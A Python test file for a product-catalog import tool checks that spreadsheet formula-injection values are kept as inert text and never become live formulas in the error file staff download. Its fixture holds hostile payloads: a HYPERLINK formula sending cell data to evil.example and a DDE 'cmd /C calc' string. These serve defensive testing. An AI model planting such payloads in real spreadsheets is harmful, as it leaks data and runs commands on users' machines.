"""Formula injection round trip and the error file staff download, fix and upload again."""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any

import openpyxl

from ocop.catalog.tables import Product
from ocop.imports.columns import match_headers
from ocop.imports.readers import read_file
from ocop.imports.report import ERROR_HEADER, write_error_file
from ocop.imports.safe_xlsx import neutralise_csv
from ocop.imports.service import ImportSource, run_import
from ocop.imports.template import write_template
from ocop.imports.validate import validate_sheet
from tests.ocop.imports.conftest import HEADERS, csv_text, product_row

EVIL = {
    "sku": "-001",
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")',
    "description": "@SUM(1+1)*cmd|' /C calc'!A0",
    "net_quantity": "+500 g",
}


async def test_formula_injection_round_trip(db: Any, tmp_path: Path) -> None:
    rows = [product_row(**EVIL), product_row(sku="B", price="abc")]
    data = csv_text(rows).encode("utf-8")
    result = await run_import(ImportSource("c.csv", data), actor_user_id=None, dry_run=False)
    assert (result.created, result.failed) == (1, 1)
    stored = await Product.objects().get(Product.sku == "-001")
    assert (stored.name, stored.description, stored.net_quantity) == (EVIL["name"], EVIL["description"], EVIL["net_quantity"])

    out = tmp_path / "loi.xlsx"
    write_error_file("c.csv", data, result.errors, out)
    sheet = openpyxl.load_workbook(out).worksheets[0]
    for col in range(1, sheet.max_column + 1):
        for row in range(1, sheet.max_row + 1):
            cell = sheet.cell(row=row, column=col)
            assert cell.data_type != "f", (cell.coordinate, cell.value)  # never a formula
    assert sheet.cell(row=2, column=HEADERS.index("Tên sản phẩm") + 1).value == EVIL["name"]
    assert sheet.cell(row=1, column=len(HEADERS) + 1).value == ERROR_HEADER
    assert "Giá bán (VNĐ)" in sheet.cell(row=3, column=len(HEADERS) + 1).value

    # Staff upload the error file as it is: the good row is unchanged, the bad one still fails,
    # the error column is reported as unknown and ignored.
    again = await run_import(ImportSource("loi.xlsx", out.read_bytes()), actor_user_id=None, dry_run=False)
    assert (again.unchanged, again.failed, again.created) == (1, 1, 0)
    assert again.unknown_columns == [ERROR_HEADER]
    assert await Product.count() == 1


def test_error_file_to_a_stream_keeps_every_row() -> None:
    data = csv_text([product_row(), product_row(sku="B", stars=9), product_row(sku="C")]).encode("utf-8-sig")
    sheet = read_file("c.csv", data)
    faults = validate_sheet(sheet, match_headers(sheet.header)).faults
    buffer = io.BytesIO()
    write_error_file("c.csv", data, faults, buffer, lang="en")
    book = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))
    values = [[c.value for c in r] for r in book.worksheets[0].iter_rows()]
    assert len(values) == 4
    assert [v[-1] for v in values] == [ERROR_HEADER, None, "Số sao OCOP: OCOP stars must be 3, 4 or 5 (got: 9)", None]


def test_neutralise_csv() -> None:
    assert [neutralise_csv(v) for v in ("=1+1", "+84", "-5", "@a", "\tx", "Bánh", "")] == [
        "'=1+1", "'+84", "'-5", "'@a", "'\tx", "Bánh", ""]


def test_template_filled_in_excel_style_imports(tmp_path: Path) -> None:
    path = tmp_path / "mau.xlsx"
    write_template(path)
    book = openpyxl.load_workbook(path)
    sheet = book.worksheets[0]
    row = product_row()
    for col, key in enumerate(row_keys(), start=1):
        sheet.cell(row=2, column=col, value=row[key])
    book.save(path)
    read = read_file(path)
    result = validate_sheet(read, match_headers(read.header))
    assert result.faults == [] and [r.product.sku for r in result.records] == ["BT-001"]


def row_keys() -> list[str]:
    from ocop.imports.columns import COLUMNS

    return [c.key for c in COLUMNS]
